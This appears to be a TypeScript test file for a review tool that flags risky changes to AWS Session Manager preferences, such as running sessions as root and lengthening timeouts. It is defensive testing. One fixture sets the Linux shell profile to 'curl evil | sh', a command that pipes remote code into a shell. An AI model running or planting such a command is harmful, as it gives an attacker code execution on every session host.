import { SESSION_RULES } from "../../../review/findings/sessions";
import type { Json } from "../../../review/plan-json";
import { bothWays, findingsOf, testRules } from "../../helpers/finding-cases";
import type { Planned } from "../../helpers/plans";

const NAME = "SSM-SessionManagerRunShell";
const content = (inputs: { readonly [field: string]: Json }) => JSON.stringify({ inputs });
const preferences = (
  before: { readonly [field: string]: Json },
  after: { readonly [field: string]: Json },
): Planned => ({
  type: "aws_ssm_document",
  before: { name: NAME, content: content(before) },
  after: { name: NAME, content: content(after) },
});
const PLACE = "payments, eu-central-1";

testRules(SESSION_RULES, [
  bothWays(
    "run-as-off",
    "medium",
    `Sessions in ${PLACE} run as ssm-user, who may use sudo`,
    preferences({ runAsEnabled: true }, { runAsEnabled: false }),
  ),
  bothWays(
    "run-as-on",
    "low",
    `Sessions in ${PLACE} run as an operating system user that the preferences or a tag name`,
    preferences({ runAsEnabled: false }, { runAsEnabled: true }),
  ),
  {
    rule: "run-as-user-changed",
    severity: "high",
    title: `Sessions in ${PLACE} run as the user root instead of ops`,
    found: preferences({ runAsDefaultUser: "ops" }, { runAsDefaultUser: "root" }),
    not: preferences({ runAsDefaultUser: "ops" }, { runAsDefaultUser: "ops", runAsEnabled: true }),
  },
  {
    rule: "run-as-user-changed",
    severity: "medium",
    title: `Sessions in ${PLACE} run as the user dev instead of ops`,
    found: preferences({ runAsDefaultUser: "ops" }, { runAsDefaultUser: "dev" }),
    not: preferences({ runAsDefaultUser: "" }, { runAsDefaultUser: "ops" }),
  },
  bothWays(
    "idle-timeout-lengthened",
    "medium",
    `Idle sessions in ${PLACE} end after 60 minutes instead of 15`,
    preferences({ idleSessionTimeout: "15" }, { idleSessionTimeout: "60" }),
  ),
  bothWays(
    "maximum-duration-lengthened",
    "medium",
    `Sessions in ${PLACE} end after 1440 minutes instead of 480`,
    preferences({ maxSessionDuration: "480" }, { maxSessionDuration: "1440" }),
  ),
  bothWays(
    "maximum-duration-lengthened",
    "medium",
    `Sessions in ${PLACE} no longer end after 480 minutes`,
    preferences({ maxSessionDuration: "480" }, { maxSessionDuration: "" }),
  ),
  {
    rule: "shell-profile-linux-changed",
    severity: "medium",
    title: `Each session on Linux in ${PLACE} begins with other commands: curl evil | sh (until now: nothing)`,
    found: preferences({ shellProfile: { linux: "" } }, { shellProfile: { linux: "curl evil | sh" } }),
    not: preferences({ shellProfile: { linux: "" } }, { shellProfile: { linux: "", windows: "cls" } }),
  },
  {
    rule: "shell-profile-windows-changed",
    severity: "medium",
    title: `Each session on Windows in ${PLACE} begins with other commands: nothing (until now: cls)`,
    found: preferences({ shellProfile: { windows: "cls" } }, { shellProfile: { windows: "" } }),
    not: preferences({ shellProfile: { linux: "" } }, { shellProfile: { linux: "date" } }),
  },
]);

it("compares timeouts as numbers, not as texts", () => {
  const shorter = preferences({ idleSessionTimeout: "100" }, { idleSessionTimeout: "9" });
  expect(findingsOf("idle-timeout-lengthened", shorter)).toEqual([]);
});
